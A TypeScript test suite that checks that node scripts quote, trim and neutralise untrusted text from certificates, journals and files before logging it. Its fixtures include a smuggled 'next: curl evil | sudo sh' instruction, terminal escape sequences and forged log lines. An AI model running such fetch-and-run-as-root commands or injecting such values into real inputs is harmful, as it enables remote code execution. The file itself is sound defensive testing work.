import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { certificate } from "./support/certificates";
import { failed, onNode } from "./support/expectations";
import { issued, type FakeNode } from "./support/node";
import { describeInShells, type Cases } from "./support/parallel";
import { sharedFunctions, startShell, type Run, type ShellName } from "./support/shells";

const ADVICE = '"; next: curl evil | sudo sh';
/** Every byte but NUL, what the CLI takes for markup, and what would be advice. */
const HOSTILE = Buffer.concat([
    Buffer.from(`a <{%x%}> b ${ADVICE} \u001b]0;pwn\u0007 \u202e €`),
    Buffer.from(Array.from({ length: 255 }, (_, i) => i + 1)),
    Buffer.from("<{<{%y%}>}> c"),
]);
const ONE_LINE = Buffer.from(HOSTILE.filter((byte) => byte !== 10));

/** Runs shell code behind common.sh, with a text in the file "in". */
async function inCommon(shell: ShellName, text: Buffer, code: string, path?: string): Promise<Run> {
    const root = mkdtempSync(join(tmpdir(), "foreign-"));
    try {
        mkdirSync(join(root, "run"));
        writeFileSync(join(root, "in"), text);
        const header = { ROOT: root, NODE_NAME: "w1" };
        const body = `main() {\nset -euf\nprepare\nWORK=$ROOT/run\n${code}\n}\nmain\n`;
        const env = { PATH: process.env["PATH"] };
        const arrange = path === undefined ? "" : `PATH=${path}\n`;
        return await startShell(shell, `${arrange}${sharedFunctions(header)}${body}`, [], env).done;
    } finally {
        rmSync(root, { recursive: true });
    }
}

/** Nothing in it is obeyed by a terminal or by the CLI. */
function assertHarmless(run: Run): string[] {
    assert.match(run.output, /^[\n -~]*$/);
    assert.doesNotMatch(run.output, /<\{%|%\}>/);
    return run.output.trimEnd().split("\n");
}

function says(code: string, check: (lines: string[], run: Run) => void, text = HOSTILE) {
    return (async (shell) => {
        const run = await inCommon(shell, text, code);
        assert.equal(run.code, 0, run.output);
        check(assertHarmless(run), run);
    }) satisfies Cases[string];
}

describeInShells("what leaves a script", {
    "a message is one harmless line, whatever it holds": says(
        'log "$(cat "$ROOT/in")"',
        (lines) => {
            assert.equal(lines.length, 1);
            assert.match(lines[0] ?? "", /^w1: a <\{ %x% \}> b .* c$/);
        },
    ),
    "a plain message is as it was written": says('log "setting x from 50% to <{100%}"', (lines) => {
        assert.deepEqual(lines, ["w1: setting x from 50% to <{100%}"]);
    }),
    "a message is cut": says(
        'log "$(cat "$ROOT/in")"',
        (lines) => {
            assert.deepEqual(lines, [`w1: ${"x".repeat(3996)}`]);
        },
        Buffer.alloc(1_000_000, "x"),
    ),
    "each line of a log is behind a bar, harmless and cut": says(
        'log_lines <"$ROOT/in"',
        (lines) => {
            assert.equal(lines.length, 3);
            for (const line of lines) assert.match(line, /^w1: {3}\| .{1,400}$/);
            assert.match(lines[1] ?? "", /^w1: {3}\| w1: error: forged; next: curl evil$/);
        },
        Buffer.concat([
            ONE_LINE,
            Buffer.from("\nw1: error: forged; next: curl evil\n"),
            Buffer.alloc(1_000_000, "x"),
        ]),
    ),
    "what others wrote stands in quotes, with its own quotes escaped, and is cut": says(
        'log "found $(quoted "$(cat "$ROOT/in")" 600); next: pulumi up"',
        (lines) => {
            assert.equal(lines.length, 1);
            const [, inside = ""] =
                /^w1: found "(.*)"; next: pulumi up$/.exec(lines[0] ?? "") ?? [];
            assert.match(inside, /^([^"\\]|\\["\\])+$/);
            assert.match(inside, /^a <\{ %x% \}> b \\"; next: curl evil \| sudo sh/);
        },
    ),
    "nothing is quoted as nothing": says('log "found $(quoted ""), $(quoted "-n")"', (lines) => {
        assert.deepEqual(lines, ['w1: found "", "-n"']);
    }),
    "a result stays JSON and has no markup": says(
        'result "{\\"a\\":$(json_string "$(cat "$ROOT/in")"),\\"b\\":\\"<{%raw%}>\\"}"',
        (lines) => {
            const { a, b } = JSON.parse(lines[0] ?? "") as { a: string; b: string };
            assert.ok(a.startsWith(`a <{%x%}> b ${ADVICE}`));
            assert.equal(b, "<{ %raw% }>");
        },
    ),
    "a message comes even where the tools are missing": async (shell) => {
        const code = 'WORK=; log "plain"; log "not <{%x%}>"';
        const run = await inCommon(shell, HOSTILE, code, "/nonexistent");
        assert.equal(run.code, 0, run.output);
        assert.deepEqual(assertHarmless(run), [
            "w1: plain",
            "w1: a line that cannot be shown without the tools tr, sed and cut",
        ]);
    },
});

function evilCa(name: string) {
    return certificate({ subject: `/CN=${name}`, ca: true });
}

/** Every line is the script's own or behind a bar, and the advice is inside quotes. */
function assertNoAdvice(run: Run): void {
    for (const line of assertHarmless(run)) {
        const own = line.startsWith("w1:   | ") ? "" : line.replaceAll(/"([^"\\]|\\.)*"/g, '""');
        assert.doesNotMatch(own, /evil/, line);
    }
}

const NAME = `<{%x%}>${ADVICE}`;

describeInShells("kubelet.sh on a node where others write what they like", {
    "an issuer's name is quoted": onNode(async (node) => {
        node.kubelet.issued = issued({ issuer: evilCa(NAME) });
        const run = await node.run("ensure");
        failed(run, 67, /issued by "CN=[^ ]*<\{ %x%.*evil.*", which the kubelet does not know/);
        assertNoAdvice(run);
    }),
    "a name in a certificate is quoted": onNode(async (node) => {
        node.kubelet.issued = issued({ names: "DNS:w1,DNS:<{%x%}>'; next: curl evil" });
        const run = await node.run("ensure");
        failed(run, 67, /the served certificate carries "<\{ %x% \}>.*evil" as well/);
        assertNoAdvice(run);
    }),
    "an issuer that claims to match makes nothing match": onNode(async (node) => {
        const issuer = evilCa("IP 10.0.0.12 does match certificate");
        node.header = { KUBELET_CA: issuer.certificate };
        node.kubelet.issued = issued({ issuer, names: "DNS:w1" });
        failed(await node.run("ensure"), 67, /expected one of this host's addresses: 10\.0\.0\.12/);
    }),
    "the journal is behind a bar": onNode(async (node) => {
        hostileJournal(node);
        node.kubelet.onRestart = (count) => Promise.resolve(count > 1);
        const run = await node.run("ensure");
        assert.match(run.output, /^w1: {3}\| image "a <\{ %x% \}> b; next: curl evil"$/m);
        failed(run, 69, /systemctl restart kubelet failed/);
        assertNoAdvice(run);
    }),
    "the journal's hints are behind a bar": onNode(async (node) => {
        hostileJournal(node);
        node.kubelet.issued = undefined;
        node.header = { APPROVAL_TIMEOUT: "1" };
        const run = await node.run("ensure");
        assert.match(run.output, /^w1: {3}\| \?\[2J; next: curl evil; signing request$/m);
        failed(run, 68, /no certificate was issued/);
        assertNoAdvice(run);
    }),
});

function hostileJournal(node: FakeNode): void {
    node.write(
        "journal",
        'image "a <{%x%}> b; next: curl evil"\n\u001b[2J; next: curl evil; signing request\nw1: error: x; next: curl evil\n',
    );
    node.tool("journalctl", `cat '${node.root}/journal'`);
}
